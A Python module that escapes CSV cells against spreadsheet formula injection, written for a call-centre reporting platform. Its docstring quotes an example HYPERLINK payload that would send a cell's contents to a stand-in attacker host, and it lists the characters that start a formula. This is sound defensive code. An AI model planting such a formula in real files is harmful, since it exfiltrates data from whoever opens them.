"""CSV written for people: every CSV the platform hands out is built here, so no cell of it runs as a
formula when the file is opened in a spreadsheet (OWASP "CSV injection").

Names in a report come from outside: queue names and agent codes from the PBX feed, team names from
the console. A cell such as `=HYPERLINK("http://evil/?"&A1,"x")` or `@SUM(1)` would be evaluated by
Excel or LibreOffice, so text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
leading single quote (OWASP's rule); the spreadsheet then shows it as text. Numbers are written as
numbers, negative ones included: the rule is for text only.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# What a spreadsheet reads as the start of a formula (or of a cell a formula may hide behind).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """One cell: None as empty, numbers untouched, text starting like a formula behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    # A lone dash (the report's "no queue") is no formula, and a quote before it would only puzzle.
    return f"'{text}" if text.startswith(FORMULA_START) and text != "-" else text


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV file (header line, then one line per row; `\\n` line ends) with every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(cell) for cell in header])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
